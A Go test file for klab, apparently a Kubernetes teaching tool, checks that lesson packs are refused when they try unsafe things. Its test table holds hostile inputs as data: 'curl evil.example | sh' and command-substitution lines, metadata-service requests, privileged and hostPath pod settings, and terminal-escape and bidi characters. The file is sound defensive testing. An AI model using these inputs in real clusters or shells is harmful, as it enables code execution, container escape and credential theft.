package packs_test

import (
	"context"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/klab-dev/klab/fence"
	"github.com/klab-dev/klab/internal/packs"
	"github.com/klab-dev/klab/internal/scaffold"
	"github.com/klab-dev/klab/lessons"
	"github.com/klab-dev/klab/lessons/lint"
)

const demo = "lessons/01-demo/"

// folder makes a pack of one good lesson.
func folder(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "pack")
	_, err := scaffold.New(scaffold.Options{Dir: dir, ID: "demo"})
	require.NoError(t, err)
	return dir
}

// change replaces text in a file of the pack; without text to replace it writes the file.
func change(t *testing.T, dir, name, before, after string) {
	t.Helper()
	name = filepath.Join(dir, filepath.FromSlash(name))
	if before == "" {
		require.NoError(t, os.MkdirAll(filepath.Dir(name), 0o755))
		require.NoError(t, os.WriteFile(name, []byte(after), 0o644))
		return
	}
	data, err := os.ReadFile(name)
	require.NoError(t, err)
	require.Contains(t, string(data), before)
	require.NoError(t, os.WriteFile(name, []byte(strings.Replace(string(data), before, after, 1)), 0o644))
}

func TestAGoodPackIsAsGoodAsShipped(t *testing.T) {
	t.Parallel()
	course, err := packs.Load(t.Context(), folder(t), nil)
	require.NoError(t, err)
	require.Empty(t, lint.Course(course))
	lesson := course.Lesson("demo")
	require.True(t, lesson.Pack)
	require.Equal(t, fence.Prefix+"demo", lesson.Namespace)
	require.NotEmpty(t, lesson.Tasks[0].Solutions[0].Steps)
}

// breach is a change of the good pack and what klab says to it, place included.
type breach struct{ file, before, after, want string }

const (
	yaml     = demo + "lesson.yaml"
	seed     = demo + "seed/10-web.yaml"
	scale    = demo + "solution/scale.steps.yaml"
	doScale  = "- do: {scale: {kind: Deployment, name: web, replicas: 3}}\n"
	observed = "hits: {http: {service: web, port: 80, count: 60}}"
	podSpec  = "    spec:\n      containers:"
)

// policy is a NetworkPolicy with one rule for what leaves Pods.
func policy(rule string) string {
	return "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: out\nspec:\n  podSelector: {}\n" +
		"  policyTypes: [Egress]\n  egress:\n  " + rule + "\n"
}

func breaches() map[string]breach {
	return map[string]breach{
		// Numbers and order.
		"negative minutes": {yaml, "minutes: ", "minutes: -", yaml + ":6:1: a lesson cannot take -"},
		"negative points":  {yaml, "points: ", "points: -", "cannot have -100 points"},
		"a circle":         {yaml, "minutes: ", "prerequisites: [demo]\nminutes: ", "prerequisites form a cycle: demo -> demo"},
		// Where requests may go.
		"a policy to outside": {demo + "seed/20-net.yaml", "", policy("- to: [{ipBlock: {cidr: 0.0.0.0/0}}]"),
			demo + "seed/20-net.yaml:9:11: a pack may not allow \"0.0.0.0/0\": it is not in the cluster"},
		"a policy to anywhere": {demo + "seed/20-net.yaml", "", policy("- ports: [{port: 80}]"), demo + "seed/20-net.yaml:9:"},
		"klab's own policy":    {scale, doScale, "- do: {delete: {kind: NetworkPolicy, name: klab-pack}}\n", "NetworkPolicy klab-pack is klab's own"},
		// Files.
		"script":              {demo + "check.sh", "", "#!/bin/sh\n", demo + "check.sh: a pack holds YAML, JSON and Markdown"},
		"program":             {demo + "seed/run", "", "\x7fELF", demo + "seed/run: a pack holds YAML"},
		"huge manifest":       {demo + "seed/20-big.yaml", "", "a: " + strings.Repeat("x", 300<<10), demo + "seed/20-big.yaml: the file has 300 KiB"},
		"terminal escape":     {demo + "text.en.md", "One is not", "One \x1b]52;c;eA==\x07 is not", demo + "text.en.md:2:8: a pack may not hold the control character U+001B"},
		"hidden escape":       {demo + "messages.en.yaml", "title: \"Demo\"", `title: "Demo\e[2J"`, demo + "messages.en.yaml:2:8: a pack may not hold control characters, escaped"},
		"line separator":      {demo + "text.en.md", "One is not", "One \u2028is not", "text.en.md:2:8: a pack may not hold the control character U+2028"},
		"reversed text":       {demo + "text.en.md", "One is not", "One \u202eis not", "text.en.md:2:8: a pack may not hold the control character U+202E"},
		"alias":               {seed, "labels: {app: web}", "labels: *all", seed + ":12:15: a pack may not use anchors, aliases"},
		"aliases taken in":    {scale, doScale, "- do: {apply: {file: ../LICENSE}}\n", "LICENSE: a manifest of a pack is YAML or JSON"},
		"alias in a text":     {scale, doScale, "- do: {apply: {manifest: \"a: &a [x]\\nb: [*a]\"}}\n", "in the manifest: a pack may not use anchors"},
		"keys":                {demo + "seed/20-many.yaml", "", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata:\n" + numbered("  k%d: v\n", 1001), "20-many.yaml:1005:8: more than 1000 keys in one map"},
		"keys in braces":      {demo + "seed/20-many.yaml", "", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {" + numbered("k%d: v, ", 1001) + "}\n", "more than 1000 keys in one map"},
		"a folder of seeds":   {demo + "seed/more/x.yaml", "", "apiVersion: v1\nkind: Node\nmetadata: {name: a}\n", demo + "seed/more/x.yaml:2:1: a pack may not make or change objects of kind Node"},
		"a seed of any name":  {demo + "seed/x.steps.yaml", "", "apiVersion: v1\nkind: Node\nmetadata: {name: a}\n", demo + "seed/x.steps.yaml:2:1: a pack may not make or change objects of kind Node"},
		"an answer elsewhere": {yaml, "scale.steps.yaml", "../elsewhere.yaml", demo + "elsewhere.yaml:2:1: a pack may not make or change objects of kind Node"},
		"deep flow":           {seed, "replicas: 1", "replicas: " + strings.Repeat("[", 100000), seed + ":7:"},
		"deep list":           {scale, doScale, strings.Repeat("- ", 100000) + "x\n", scale + ":2:1: more than 40 levels"},
		"deep in a text":      {scale, doScale, "- do: {apply: {manifest: \"a]]]]: " + strings.Repeat("[", 100000) + "\"}}\n", scale + ":2:"},
		"deep quotes":         {demo + "text.en.md", "## One is not", strings.Repeat(">", 100000) + " One is not", demo + "text.en.md:2:1: more than 40 levels"},
		"deep escaped":        {demo + "messages.en.yaml", "title: \"Demo\"", "title: \"x\\n" + strings.Repeat(">", 100000) + "\"", demo + "messages.en.yaml:2:8: more than 40 levels"},
		"many objects":        {demo + "seed/20-many.yaml", "", strings.Repeat("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n---\n", 61), "20-many.yaml: 61 objects in one manifest"},
		"many in a list":      {demo + "seed/20-many.yaml", "", "apiVersion: v1\nkind: List\nitems:\n" + strings.Repeat("- {apiVersion: v1, kind: ConfigMap, metadata: {name: a}}\n", 61), "20-many.yaml: 61 objects in one manifest"},
		"namespace of seed":   {seed, "metadata:\n  name: web", "metadata:\n  name: web\n  namespace: kube-system", seed + ":6:3: a pack may not write into namespace kube-system"},
		"klab's namespace":    {seed, "metadata:\n  name: web", "metadata:\n  name: web\n  namespace: klab-grader", seed + ":6:3: a pack may not write into namespace klab-grader"},
		"another lesson's":    {seed, "metadata:\n  name: web", "metadata:\n  name: web\n  namespace: klab-start-here", seed + ":6:3: a pack may not write"},
		"cluster-scoped":      {demo + "seed/20-role.yaml", "", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: a}\n", "20-role.yaml:2:1: a pack may not make or change objects of kind ClusterRoleBinding"},
		"rights":              {demo + "seed/20-role.yaml", "", "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {name: a}\n", "20-role.yaml:2:1: a pack may not make or change objects of kind RoleBinding"},
		"namespace object":    {demo + "seed/20-ns.yaml", "", "apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n", "20-ns.yaml:2:1: a pack may not make"},
		"somebody's kind":     {demo + "seed/20-x.yaml", "", "apiVersion: evil.example/v1\nkind: Deployment\nmetadata: {name: a}\n", "20-x.yaml:1:1: kind Deployment of evil.example/v1"},
		"inside a list":       {demo + "seed/20-x.yaml", "", "apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: Node\n  metadata: {name: a}\n", "20-x.yaml:5:3: a pack may not make or change objects of kind Node"},
		"items of no list":    {demo + "seed/20-x.yaml", "", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: notes}\nitems:\n- {apiVersion: v1, kind: ConfigMap, metadata: {name: a}}\n", "20-x.yaml:4:1: an object of kind ConfigMap has no items"},
		"a list in a list":    {demo + "seed/20-x.yaml", "", "apiVersion: v1\nkind: List\nitems:\n- {apiVersion: v1, kind: List, items: []}\n", "20-x.yaml:3:1: item 1 has items itself"},
		"host path":           {seed, podSpec, "    spec:\n      volumes:\n      - name: root\n        hostPath: {path: /}\n      containers:", seed + ":16:9: a pack may not mount a volume of type hostPath"},
		"host network":        {seed, podSpec, "    spec:\n      hostNetwork: true\n      containers:", seed + ":14:7: a pack may not set hostNetwork"},
		"privileged":          {seed, "        image: klab.local/web:v1", "        image: klab.local/web:v1\n        securityContext: {privileged: true}", seed + ":17:27: a pack may not set privileged"},
		"capability":          {seed, "        image: klab.local/web:v1", "        image: klab.local/web:v1\n        securityContext: {capabilities: {add: [SYS_ADMIN]}}", seed + ":17:48: a pack may not add the capability SYS_ADMIN"},
		"host port":           {seed, "        image: klab.local/web:v1", "        image: klab.local/web:v1\n        ports: [{containerPort: 8080, hostPort: 80}]", seed + ":17:39: a pack may not take ports"},
		"network file share":  {seed, podSpec, "    spec:\n      volumes:\n      - {name: share, nfs: {server: 10.0.0.1, path: /}}\n      containers:", "volume of type nfs"},
		"pushing others out":  {seed, podSpec, "    spec:\n      priorityClassName: system-node-critical\n      containers:", "may not use priority class"},
		"crowd":               {seed, "replicas: 1", "replicas: 1000000", seed + ":7:3: replicas 1000000 is more than the 50"},
		"node port":           {seed, "  selector: {app: web}\n  ports:", "  type: NodePort\n  selector: {app: web}\n  ports:", "may not make a Service of type NodePort"},
		"stolen address":      {seed, "  selector: {app: web}\n  ports:", "  externalIPs: [8.8.8.8]\n  selector: {app: web}\n  ports:", "may not set externalIPs"},
		"another name":        {seed, "  selector: {app: web}\n  ports:", "  externalName: example.org\n  ports:", "may not set externalName"},
		"address by hand":     {demo + "seed/20-slice.yaml", "", "apiVersion: discovery.k8s.io/v1\nkind: EndpointSlice\nmetadata: {name: a}\nendpoints: [{addresses: [10.96.0.1]}]\n", "address 10.96.0.1 belongs to no Pod of the lesson"},
		"haste":               {yaml, "    expect: # most basic", "    steps: [{every: 1ms, within: 1s, expect: [{code: not-three, expression: 'true'}]}]\n    expect: # most basic", "every 1ms"},
		"finalizer":           {seed, "metadata:\n  name: web", "metadata:\n  name: web\n  finalizers: [evil.example/never]", seed + ":6:3: a pack may not set metadata.finalizers"},
		"klab's mark":         {seed, "metadata:\n  name: web", "metadata:\n  name: web\n  labels: {klab.dev/lesson: other}", seed + ":6:"},
		"reference":           {demo + "text.en.md", "One is not", "One &#27;]52;c;eA==&#7; is not", demo + "text.en.md:2:8: a pack may not refer to control characters: &#27;"},
		"short reference":     {demo + "text.en.md", "One is not", "One &#x1b[2J is not", "text.en.md:2:8: a pack may not refer to control characters: &#x1b"},
		"eight bits":          {demo + "text.en.md", "One is not", "One &#x9b;2J is not", "text.en.md:2:8: a pack may not refer to control characters: &#x9b;"},
		"named reference":     {demo + "text.en.md", "One is not", "One &ZeroWidthSpace; is not", "text.en.md:2:8: a pack may not refer to control characters: &ZeroWidthSpace;"},
		"escaped reference":   {demo + "messages.en.yaml", "title: \"Demo\"", `title: "Demo &\x2327;[2J"`, demo + "messages.en.yaml:2:8: a pack may not hold control characters, escaped"},
		"invisible":           {demo + "messages.en.yaml", "title: \"Demo\"", "title: \"De\u200bmo\"", "messages.en.yaml:2:11: a pack may not hold the control character U+200B"},
		"invisible escaped":   {demo + "messages.en.yaml", "title: \"Demo\"", `title: "De\u200fmo"`, demo + "messages.en.yaml:2:8: a pack may not hold control characters, escaped"},
		"right to left":       {demo + "messages.en.yaml", "title: \"Demo\"", "title: De\u061cmo", "messages.en.yaml:2:10: a pack may not hold the control character U+061C"},
		"tag characters":      {demo + "messages.en.yaml", "title: \"Demo\"", "title: De\U000e0041mo", "messages.en.yaml:2:10: a pack may not hold the control character U+E0041"},
		// The lesson.
		"own namespace": {yaml, "minutes: 6", "minutes: 6\nnamespace: klab-grader", yaml + ":7:1: a pack may not choose its namespace"},
		"the nodes":     {yaml, "minutes: 6", "minutes: 6\nexclusive: nodes", yaml + ":7:1: a pack may not have the nodes"},
		"flood":         {yaml, "minutes: 6", "minutes: 6\ntraffic: [{name: flood, service: web, rps: 100000}]", yaml + ":7:"},
		"endless loop":  {yaml, "expression: web != null", "expression: '" + loops(9) + "'", "the expression may take up to"},
		"loops over the lab": {yaml, "expression: web != null",
			"expression: pods.all(a, pods.all(b, pods.all(c, pods.all(d, pods.all(e, a == b && c == d && d == e)))))", "the expression may take up to"},
		"expressions":       {yaml, "    expect: # most basic", "    expect:\n" + numbered("    - {code: not-three, expression: 'pods.size() != %d'}\n", 200) + "    # most basic", "expressions in one lesson, more than 200"},
		"endless wait":      {yaml, "    expect: # most basic", "    steps: [{within: 1000h, expect: [{code: not-three, expression: 'true'}]}]\n    expect: # most basic", "1000h is longer than the 10m0s"},
		"other namespace":   {yaml, "kind: Deployment, name: web}}", "kind: Deployment, name: web, namespace: kube-system}}", yaml + ":15:51: a pack may not look or act in namespace kube-system"},
		"klab's secret":     {yaml, observed, "hits: {object: {kind: Secret, name: klab-prober, namespace: klab-grader}}", "may not look or act in namespace klab-grader"},
		"everything":        {yaml, "kind: Pod, of: Deployment/web}}", "kind: Secret, namespace: '*'}}", "may not look or act in namespace *"},
		"computed":          {yaml, "kind: Pod, of: Deployment/web}}", "kind: Secret, namespace: \"${'kube' + '-system'}\"}}", "may not look or act in namespace ${"},
		"this machine":      {yaml, observed, "hits: {http: {url: 'http://127.0.0.1:8080/', from: host}}", "may not send requests from host"},
		"a node":            {yaml, observed, "hits: {http: {service: web, from: node/klab-worker}}", "may not send requests from node/klab-worker"},
		"klab's prober":     {yaml, observed, "hits: {http: {url: 'http://klab-prober.klab-grader.svc:8080/node/manifest'}}", "is no name of the lesson's namespace"},
		"metadata service":  {yaml, observed, "hits: {http: {url: 'http://169.254.169.254/'}}", "belongs to no Pod or Service"},
		"facts of nodes":    {yaml, observed, "hits: {node: {name: klab-worker, fact: manifests}}", "a pack may not use node"},
		"every node":        {yaml, observed, "hits: {everyNode: {port: 10250}}", "a pack may not use everyNode"},
		"kubelet":           {scale, doScale, "- do: {unit: {node: klab-worker, unit: kubelet, state: stopped}}\n", scale + ":2:8: a pack may not use unit"},
		"static Pod":        {scale, doScale, "- do: {nodeManifest: {node: klab-worker, name: a.yaml, manifest: '{}'}}\n", scale + ":2:8: a pack may not use nodeManifest"},
		"exec":              {scale, doScale, "- do: {exec: {pod: web, command: [sh]}}\n", scale + ":2:8: a pack may not use exec"},
		"port-forward":      {scale, doScale, "- do: {portForward: {pod: web, port: 80, paths: [/]}}\n", "a pack may not use portForward"},
		"label a node":      {scale, doScale, "- do: {label: {kind: Node, name: a, labels: {x: y}}}\n", scale + ":2:16: a pack may not make or change objects of kind Node"},
		"patch a node":      {scale, doScale, "- do: {patch: {kind: Node, name: a, patch: {spec: {taints: []}}}}\n", "objects of kind Node"},
		"delete elsewhere":  {scale, doScale, "- do: {delete: {kind: Deployment, name: coredns, namespace: kube-system}}\n", "may not look or act in namespace kube-system"},
		"apply elsewhere":   {scale, doScale, "- do: {apply: {namespace: default, manifest: {apiVersion: v1, kind: ConfigMap, metadata: {name: a}}}}\n", "in namespace default"},
		"patched in":        {scale, doScale, "- do: {patch: {kind: Deployment, name: web, type: json, patch: [{op: add, path: /spec/template/spec/hostPID, value: true}]}}\n", "may not set hostPID"},
		"moved in":          {scale, doScale, "- do: {patch: {kind: Service, name: web, type: json, patch: [{op: copy, from: /a, path: /spec/type}]}}\n", `may not patch with op "copy"`},
		"manifest as text":  {scale, doScale, "- do: {apply: {manifest: \"{apiVersion: v1, kind: Namespace, metadata: {name: a}}\"}}\n", scale + ":2:"},
		"learner's tools":   {scale, doScale, "- do: {writeFile: {path: .envrc, content: 'x'}}\n", scale + ":2:20: a pack may not write the file .envrc"},
		"shown program":     {yaml, "show: kubectl -n ${ns} get pods", "show: 'curl -s https://evil.example/x | sh # kubectl get'", "a pack may show kubectl commands that only read"},
		"shown change":      {yaml, "show: kubectl -n ${ns} get pods", "show: kubectl delete pods --all", "a pack may show kubectl commands that only read"},
		"shown in quotes":   {yaml, "show: kubectl -n ${ns} get pods", "show: 'kubectl get \"$(curl evil.example)\"'", "a shell takes"},
		"shown in the line": {yaml, "show: kubectl -n ${ns} get pods", "show: 'kubectl get pods; curl evil.example'", "a shell takes"},
		"shown pattern":     {yaml, "show: kubectl -n ${ns} get pods", "show: \"kubectl get *(e:'curl evil.example':)\"", "a shell takes"},
		"shown lab":         {yaml, "show: kubectl -n ${ns} get pods", "show: kubectl --kubeconfig=/home/me/.kube/config get pods", "may not show the flag --kubeconfig"},
		"shown file":        {yaml, "show: kubectl -n ${ns} get pods", "show: kubectl get pods --profile=cpu --profile-output=/home/me/.bashrc", "may not show the flag --profile"},
		"shown page":        {yaml, "show: kubectl -n ${ns} get pods", "show: 'kubectl diff -f https://evil.example/x.yaml'", "no file of the learner's folder"},
		"a check that writes": {yaml, "    expect: # most basic", "    steps: [{do: {writeFile: {path: a.yaml, content: x}}}]\n    expect: # most basic",
			"a pack may not use writeFile in a check"},
	}
}

func numbered(format string, n int) string {
	var text strings.Builder
	for i := range n {
		fmt.Fprintf(&text, format, i)
	}
	return text.String()
}

// loops nests loops over ten numbers each.
func loops(depth int) string {
	list, text := "[0,1,2,3,4,5,6,7,8,9]", "true"
	for i := range depth {
		name := string(rune('a' + i))
		text = list + ".all(" + name + ", " + text + ")"
	}
	return text
}

func TestAPackIsRefused(t *testing.T) {
	t.Parallel()
	for name, b := range breaches() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := folder(t)
			change(t, dir, demo+"LICENSE", "", "a: &a [x]\nb: [*a, *a]\n")
			if name == "an answer elsewhere" {
				change(t, dir, demo+"elsewhere.yaml", "", "apiVersion: v1\nkind: Node\nmetadata: {name: a}\n")
			}
			change(t, dir, b.file, b.before, b.after)
			_, err := packs.Load(t.Context(), dir, nil)
			require.Error(t, err)
			require.ErrorContains(t, err, b.want)
			for _, problem := range lessons.Problems(err) {
				require.NotEmpty(t, problem.Fix, problem.Message)
			}
		})
	}
}

func TestAnIDIsTakenOnce(t *testing.T) {
	t.Parallel()
	_, err := packs.Load(t.Context(), folder(t), func(id string) bool { return id == "demo" })
	require.ErrorContains(t, err, yaml+":4:1: id demo is taken by another lesson")
}

func TestNothingIsReadThroughALink(t *testing.T) {
	t.Parallel()
	secret := filepath.Join(t.TempDir(), "secret.yaml")
	require.NoError(t, os.WriteFile(secret, []byte("password: hunter2\n"), 0o600))
	for name, target := range map[string]string{"out of the folder": secret, "within": "10-web.yaml", "to a device": "/dev/zero", "to nothing": "nowhere"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := folder(t)
			require.NoError(t, os.Symlink(target, filepath.Join(dir, filepath.FromSlash(demo+"seed/20-link.yaml"))))
			_, err := packs.Load(t.Context(), dir, nil)
			require.ErrorContains(t, err, demo+"seed/20-link.yaml: a pack may not hold symbolic links")
			require.NotContains(t, err.Error(), "hunter2")
		})
	}
}

func TestALinkedFolderIsRefused(t *testing.T) {
	t.Parallel()
	dir, other := folder(t), folder(t)
	require.NoError(t, os.Symlink(filepath.Join(other, "lessons", "01-demo"), filepath.Join(dir, "lessons", "02-linked")))
	_, err := packs.Load(t.Context(), dir, nil)
	require.ErrorContains(t, err, "lessons/02-linked: a pack may not hold symbolic links")
}

// A file of 50 MB is a sparse one here; klab must say so by its size, without reading it.
func TestAFileOfFiftyMegabytesIsNotRead(t *testing.T) {
	t.Parallel()
	dir := folder(t)
	name := filepath.Join(dir, filepath.FromSlash(demo+"seed/20-big.yaml"))
	require.NoError(t, os.WriteFile(name, nil, 0o200)) // reading it would fail for most users
	require.NoError(t, os.Truncate(name, 50<<20))
	_, err := packs.Load(t.Context(), dir, nil)
	require.ErrorContains(t, err, "20-big.yaml: the file has 51200 KiB, and a file of a pack may have 256")
}

// Whatever a pack has in hidden folders is not there: it is not read, and nothing leads to it.
func TestNothingHiddenIsRead(t *testing.T) {
	t.Parallel()
	dir := folder(t)
	change(t, dir, demo+".h/b.yaml", "", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\na: &a [x]\nb: [*a, *a]\n")
	change(t, dir, demo+"seed/.h/privileged.yaml", "", "apiVersion: v1\nkind: Node\nmetadata: {name: a}\n")
	change(t, dir, demo+"seed~/privileged.yaml", "", "apiVersion: v1\nkind: Node\nmetadata: {name: a}\n")
	huge := filepath.Join(dir, filepath.FromSlash(demo), ".h", "huge.yaml")
	require.NoError(t, os.WriteFile(huge, nil, 0o200))
	require.NoError(t, os.Truncate(huge, 100<<20))
	course, err := packs.Load(t.Context(), dir, nil)
	require.NoError(t, err)
	require.Len(t, course.Lesson("demo").Seed, 1)

	change(t, dir, scale, doScale, "- do: {apply: {file: ../.h/b.yaml}}\n")
	_, err = packs.Load(t.Context(), dir, nil)
	require.ErrorContains(t, err, scale+":2:")
	require.ErrorContains(t, err, "there is no file .h/b.yaml")
}

// A pack that came by way of other systems is the pack that it was: their folders' own files and the mark before UTF-8
// change nothing.
func TestWhatSystemsAndEditorsLeaveIsNoContent(t *testing.T) {
	t.Parallel()
	dir := folder(t)
	for _, name := range []string{"Thumbs.db", "desktop.ini", "Icon\r", "course.yaml~", "#course.yaml#", ".DS_Store"} {
		require.NoError(t, os.WriteFile(filepath.Join(dir, filepath.FromSlash(demo), name), []byte{0, 1, 2}, 0o600))
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte{0, 1, 2}, 0o600))
	}
	marked := 0
	require.NoError(t, filepath.WalkDir(dir, func(name string, entry fs.DirEntry, err error) error {
		if entry.IsDir() || filepath.Ext(name) != ".yaml" && filepath.Ext(name) != ".md" {
			return err
		}
		data, err := os.ReadFile(name)
		require.NoError(t, err)
		marked++
		return os.WriteFile(name, append([]byte("\ufeff"), data...), 0o600)
	}))
	require.Greater(t, marked, 5)
	course, err := packs.Load(t.Context(), dir, nil)
	require.NoError(t, err)
	require.Len(t, course.Lesson("demo").Seed, 1)
}

// A pack that keeps its reader busy is left out, and whoever waits for it can leave.
func TestLoadingEnds(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	_, err := scaffold.New(scaffold.Options{Dir: filepath.Join(data, "slow"), ID: "demo"})
	require.NoError(t, err)
	busy := strings.Repeat("- "+strings.Repeat("{a: b, ", 30)+strings.Repeat("}", 30)+"\n", 1000)
	for i := range 65 {
		change(t, filepath.Join(data, "slow"), fmt.Sprintf("lessons/%02d-slow/lesson.yaml", i+2), "", busy)
	}
	began := time.Now()
	refused, err := packs.Add(t.Context(), &lessons.Course{}, data)
	require.NoError(t, err)
	require.Less(t, time.Since(began), 10*time.Second)
	require.Len(t, refused, 1)
	require.ErrorIs(t, refused[0].Err, packs.ErrTooLong)
	require.ErrorContains(t, refused[0], "pack slow is left out: it takes too long")

	gone, leave := context.WithCancel(t.Context())
	leave()
	_, err = packs.Add(gone, &lessons.Course{}, data)
	require.ErrorIs(t, err, context.Canceled)
	_, err = packs.Load(gone, filepath.Join(data, "slow"), nil)
	require.ErrorIs(t, err, context.Canceled)
}

// TestACircleOfPrerequisitesIsFound, and looking for one ends, however many ways lead from lesson to lesson.
func TestACircleOfPrerequisitesIsFound(t *testing.T) {
	t.Parallel()
	dir := folder(t)
	text, err := os.ReadFile(filepath.Join(dir, "course.yaml"))
	require.NoError(t, err)
	ids := []string{}
	for i := range 40 {
		id := fmt.Sprintf("l%d", i)
		copied := filepath.Join(dir, "lessons", fmt.Sprintf("%d-%s", 10+i, id))
		require.NoError(t, os.CopyFS(copied, os.DirFS(filepath.Join(dir, demo))))
		change(t, dir, "lessons/"+filepath.Base(copied)+"/lesson.yaml", "id: demo", "id: "+id+"\nprerequisites: ["+strings.Join(ids, ", ")+"]")
		change(t, dir, "lessons/"+filepath.Base(copied)+"/lesson.yaml", "number: 1", fmt.Sprint("number: ", 10+i))
		ids = append(ids, id)
	}
	listed := strings.Replace(string(text), "demo", "demo, "+strings.Join(ids, ", "), 1)
	require.NoError(t, os.WriteFile(filepath.Join(dir, "course.yaml"), []byte(listed), 0o644))
	course, err := packs.Load(t.Context(), dir, nil)
	require.NoError(t, err)
	require.Len(t, course.Lessons, 41)
	change(t, dir, "lessons/10-l0/lesson.yaml", "prerequisites: []", "prerequisites: [l39]")
	_, err = packs.Load(t.Context(), dir, nil)
	require.ErrorContains(t, err, "prerequisites form a cycle: ")
}

func TestAPackOfTooManyFiles(t *testing.T) {
	t.Parallel()
	dir := folder(t)
	for i := range 5001 {
		require.NoError(t, os.Mkdir(filepath.Join(dir, fmt.Sprint("d", i)), 0o755))
	}
	_, err := packs.Load(t.Context(), dir, nil)
	require.ErrorContains(t, err, "more than 5000 files and folders")
}

func TestPacksJoinTheCourse(t *testing.T) {
	t.Parallel()
	data := t.TempDir()
	for _, id := range []string{"alpha", "beta"} {
		_, err := scaffold.New(scaffold.Options{Dir: filepath.Join(data, "good"), ID: id})
		require.NoError(t, err)
	}
	_, err := scaffold.New(scaffold.Options{Dir: filepath.Join(data, "late"), ID: "alpha"})
	require.NoError(t, err)
	require.NoError(t, os.MkdirAll(filepath.Join(data, ".git"), 0o755))
	course := &lessons.Course{}
	refused, err := packs.Add(t.Context(), course, data)
	require.NoError(t, err)
	require.Len(t, course.Lessons, 2)
	require.Equal(t, "good/lessons", course.Lesson("beta").Module)
	require.Equal(t, "good/lessons", course.Modules[0].ID)
	require.Len(t, refused, 1, "a lesson of the same id is there already")
	require.ErrorContains(t, refused[0], "pack late is left out, it has 1 problem(s); klab author lint")

	refused, err = packs.Add(t.Context(), course, filepath.Join(data, "nowhere"))
	require.NoError(t, err)
	require.Empty(t, refused)
}
